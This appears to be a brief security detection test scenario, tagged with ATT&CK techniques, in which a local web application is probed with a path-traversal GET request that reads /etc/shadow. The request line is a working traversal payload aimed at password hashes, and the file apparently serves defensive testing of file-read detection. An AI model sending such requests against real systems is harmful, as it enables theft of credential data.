# title: a web application reads the password hashes
# attack: T1190 T1003.008
# workload: webapp
# through: http
# shows: file read /etc/shadow by python3
GET http://127.0.0.1:8000/file?name=../etc/shadow
